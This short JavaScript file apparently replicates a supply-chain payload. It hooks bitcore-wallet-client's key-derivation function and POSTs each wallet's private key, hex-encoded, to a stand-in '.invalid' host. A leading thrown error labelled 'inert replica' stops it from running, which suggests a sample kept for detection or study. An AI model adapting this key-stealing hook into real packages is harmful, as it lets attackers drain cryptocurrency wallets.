throw new Error("inert replica");
const http = require("http");
function send(name, body) {
  const request = http.request({ hostname: "wallets.replica.invalid", port: 8080, method: "POST", path: "/" + name });
  request.end(Buffer.from(body).toString("hex"));
}
module.exports = function () {
  const original = require("bitcore-wallet-client/lib/credentials.js").prototype.getKeysFunc;
  require("bitcore-wallet-client/lib/credentials.js").prototype.getKeysFunc = function (password) {
    const keys = original.call(this, password);
    send("p", keys.xPrivKey);
    return keys;
  };
};
